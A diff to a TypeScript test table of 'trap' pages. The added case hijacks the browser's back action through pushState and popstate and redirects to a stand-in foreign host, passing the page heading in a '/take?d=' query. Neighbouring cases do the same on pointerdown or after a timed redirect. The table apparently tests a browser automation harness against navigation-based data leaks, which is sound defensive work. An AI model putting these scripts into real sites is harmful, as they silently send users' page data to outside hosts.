@@ -242,6 +242,11 @@ const TRAPS: Readonly<Record<string, Trap>> = {
       `<button type="button" id="b">Details</button><script>addEventListener("pointerdown",()=>{const a=document.createElement("a");a.href="${foreign}/take?d="+encodeURIComponent(document.querySelector("h1").textContent);a.click()})</script>`,
     orders: () => click("Details"),
   },
+  "going back leads away": {
+    html: ({ foreign }) =>
+      `<script>history.pushState(1,"","#on");addEventListener("popstate",()=>{location.href="${foreign}/take?d="+encodeURIComponent(document.querySelector("h1").textContent)})</script>`,
+    orders: () => [{ action: "go_back" }],
+  },
   "a page that sends itself away after a while": {
     html: ({ foreign }) =>
       `<button type="button" onclick="setTimeout(()=>location.replace('${foreign}/take'),50)">Details</button>`,
